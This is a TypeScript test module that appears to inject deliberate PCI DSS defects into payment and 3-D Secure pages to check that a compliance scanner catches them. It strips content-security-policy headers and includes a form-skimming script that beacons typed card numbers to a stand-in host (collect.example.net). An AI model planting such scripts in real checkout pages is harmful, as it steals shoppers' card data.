import { between, page as rewritten } from '../defects/web.ts';
import { defineArea, type Defect } from '../fault.ts';
import { finding } from '../words.ts';

const scripts = 'PCI DSS 4.0.1, requirement 6.4.3 (scripts of payment pages)';
const notKept =
  'PCI DSS 4.0.1, requirements 3.3.1 and 3.5.1 (codes are not kept, numbers are not readable)';
const storage = 'PCI DSS, requirement 3 (protection of stored account data)';

const form = /^GET \/connect\/\w+\/?$/;
const policy = 'content-security-policy';

/** Pages with more content and without some headers. */
const page = (
  origin: 'pay' | 'acs',
  when: RegExp,
  more: string,
  without: readonly string[] = [policy],
): Defect =>
  between(origin, when, async ({ pass }) => {
    const answer = await pass();
    if (!answer.headers.get('content-type')?.startsWith('text/html')) return answer;
    const kept = new Headers(answer.headers);
    for (const name of ['content-length', ...without]) kept.delete(name);
    const html = (await answer.text()).replace('</body>', `${more}</body>`);
    return new Response(html, { status: answer.status, headers: kept });
  });

/** A script that runs on every input into the card number. */
const typed = (script: string): Defect =>
  page(
    'pay',
    form,
    `<script>document.getElementById('credit-card')?.addEventListener('input', ({ target }) => { ${script} });</script>`,
  );

/** A script that runs on every input into the code of the card. */
const typedCode = (script: string): Defect =>
  page(
    'pay',
    form,
    `<script>document.getElementById('cvc')?.addEventListener('input', ({ target }) => { ${script} });</script>`,
  );

const foreign = '<script src="https://cdn.example.net/stats.js"></script>';
const ownSite = "those of the page's own site";
const address = (number: string) =>
  finding('shopper.card_number_in_an_address', new RegExp(`\\w+ http\\S+${number}.*`), 'nothing');

/** What a page lets other sites read or run. */
export const pageSecurity = defineArea('page security', [
  {
    name: 'script-of-another-site-on-the-payment-page',
    statement: 'A payment page runs no script of another site',
    source: scripts,
    caught: ['bancontact-completed'],
    words: finding('shopper.script_hosts', /.*cdn\.example\.net.*/, ownSite),
    defect: page('pay', form, foreign),
  },
  {
    name: 'script-of-another-site-on-the-3-d-secure-page',
    statement: 'A payment page runs no script of another site',
    source: scripts,
    caught: ['visa-completed'],
    words: finding('shopper.script_hosts', /.*cdn\.example\.net.*/, ownSite),
    defect: page('acs', /./, foreign),
  },
  {
    name: 'card-number-pushed-into-the-address-of-the-page',
    statement: 'No address holds a card number',
    source: storage,
    caught: ['visa-completed'],
    words: address('4111(%20|\\+)?1111(%20|\\+)?1111(%20|\\+)?1111'),
    defect: typed(
      "history.replaceState(null, '', '?' + new URLSearchParams({ pan: target.value }));",
    ),
  },
  {
    name: 'card-number-in-the-address-that-a-form-is-sent-to',
    statement: 'No address holds a card number',
    source: storage,
    caught: ['bancontact-completed'],
    words: address('67034500054620008'),
    defect: typed(
      "const { form } = target; form.action = form.action.split('?')[0] + '?card=' + target.value.replace(/\\D/g, '');",
    ),
  },
  {
    name: 'card-number-in-the-address-of-a-request-beside-the-page',
    statement: 'No address holds a card number',
    source: storage,
    caught: ['maestro-completed'],
    words: address('6759000000005'),
    defect: typed("fetch('/bin-lookup?number=' + target.value.replace(/\\D/g, ''));"),
  },
  {
    name: 'card-number-in-a-referrer',
    statement: 'No address holds a card number',
    source: storage,
    caught: ['visa-completed'],
    words: finding('shopper.card_number_in_an_address', /referrer http\S+4111.*/, 'nothing'),
    defect: typed(
      "fetch('/', { referrer: '/?pan=' + target.value.replace(/\\D/g, ''), referrerPolicy: 'unsafe-url' });",
    ),
  },
  {
    name: 'card-number-kept-by-the-3-d-secure-page',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_storage',
      /local storage of .+: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: page('acs', /./, "<script>localStorage.setItem('pan', '4111111111111111');</script>"),
  },
  {
    name: 'card-number-in-a-cookie-of-the-3-d-secure-page',
    statement: 'No cookie has the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_a_cookie',
      /cookie of .+: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: between('acs', /./, async ({ pass }) => {
      const answer = await pass();
      const kept = new Headers(answer.headers);
      kept.append('set-cookie', 'pan=4111111111111111; HttpOnly; Path=/');
      return new Response(answer.body, { status: answer.status, headers: kept });
    }),
  },
  {
    name: 'card-number-kept-in-local-storage',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_storage',
      /local storage of .+: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: typed("localStorage.setItem('draft', JSON.stringify({ pan: target.value }));"),
  },
  {
    name: 'card-number-kept-in-session-storage-in-base64',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['bancontact-completed'],
    words: finding('shopper.card_data_in_storage', /session storage of .+: \w+/, 'nothing'),
    defect: typed(
      "sessionStorage.setItem('state', btoa(JSON.stringify({ n: target.value.replace(/\\D/g, '') })));",
    ),
  },
  {
    name: 'card-number-as-a-key-of-session-storage',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['maestro-completed'],
    words: finding('shopper.card_data_in_storage', /session storage of .+: 6759[ \d]+/, 'nothing'),
    defect: typed('sessionStorage.setItem(target.value, 1);'),
  },
  {
    name: 'card-code-kept-in-local-storage',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding('shopper.card_data_in_storage', /local storage of .+: cvc.*123/, 'nothing'),
    defect: typedCode("localStorage.setItem('cvc', target.value);"),
  },
  {
    name: 'card-number-kept-in-a-database',
    statement: 'No page keeps the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_storage',
      /IndexedDB of .+: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: typed(
      `const opening = indexedDB.open('draft'), { value } = target;
      opening.onupgradeneeded = () => opening.result.createObjectStore('fields').put(value, 'card');
      opening.onsuccess = () => {
        const { result } = opening;
        result.transaction('fields', 'readwrite').objectStore('fields').put(value, 'card');
        result.close();
      };`,
    ),
  },
  {
    name: 'card-number-in-a-cookie',
    statement: 'No cookie has the number or the code of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_a_cookie',
      /cookie of .+: 4111(%20)?1111(%20)?1111(%20)?1111/,
      'nothing',
    ),
    defect: typed("document.cookie = 'card=' + encodeURIComponent(target.value);"),
  },
  {
    name: 'card-number-in-a-title',
    statement: 'No title has the number of a card',
    source: notKept,
    caught: ['bancontact-completed'],
    words: finding('shopper.card_data_in_a_title', /title of .+: 6703[ \d]+/, 'nothing'),
    defect: typed("document.title = 'Pay with ' + target.value;"),
  },
  {
    name: 'card-number-in-the-console',
    statement: 'No page writes the number of a card to the console',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_the_console',
      /console: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: typed("console.debug('card', { value: target.value });"),
  },
  {
    name: 'card-number-sent-to-another-site',
    statement: 'No request with the number of a card goes to another site',
    source: scripts,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_sent_elsewhere',
      /POST collect\.example\.net: 4111 ?1111 ?1111 ?1111/,
      'nothing',
    ),
    defect: page(
      'pay',
      form,
      `<script>document.getElementById('credit-card')?.addEventListener('input', ({ target }) =>
        navigator.sendBeacon('https://collect.example.net/', target.value));</script>`,
    ),
  },
  {
    name: 'card-number-in-a-hidden-field-of-the-3-d-secure-page',
    statement: 'No page after the form carries the number of a card',
    source: notKept,
    caught: ['visa-completed'],
    words: finding(
      'shopper.card_data_in_a_hidden_field',
      'hidden field: 4111111111111111',
      'nothing',
    ),
    defect: rewritten('acs', /./, (html) =>
      html.replace('</form>', '<input type="hidden" name="acct" value="4111111111111111">$&'),
    ),
  },
]);
